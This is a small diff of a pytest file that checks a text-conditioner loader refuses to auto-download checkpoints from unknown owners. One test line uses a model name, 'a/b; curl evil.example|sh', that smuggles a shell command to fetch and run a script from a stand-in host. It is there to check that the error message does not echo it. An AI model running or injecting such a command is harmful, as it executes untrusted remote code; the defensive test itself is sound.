@@ -181,7 +181,7 @@ def test_a_model_that_is_not_found_is_an_error(name: str, monkeypatch: pytest.Mo
 def test_a_checkpoint_downloads_nothing_from_unknown_owners(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(frozen, "_hub_is_reachable", lambda: pytest.fail("the Hub was contacted"))
     with pytest.raises(UserError, match=r"not downloaded automatically: .* run hf download someone/encoder\.$"):
-        FrozenTextConditioner.from_state({"name": "someone/encoder", "size": 384})(["a man"])
+        FrozenTextConditioner.from_state({"name": "someone/encoder", "size": 384, "example": "a man"})(["a man"])
     with pytest.raises(UserError) as raised:
         FrozenTextConditioner.from_state({"name": "a/b; curl evil.example|sh", "size": 384})(["a man"])
     assert "run hf" not in str(raised.value)
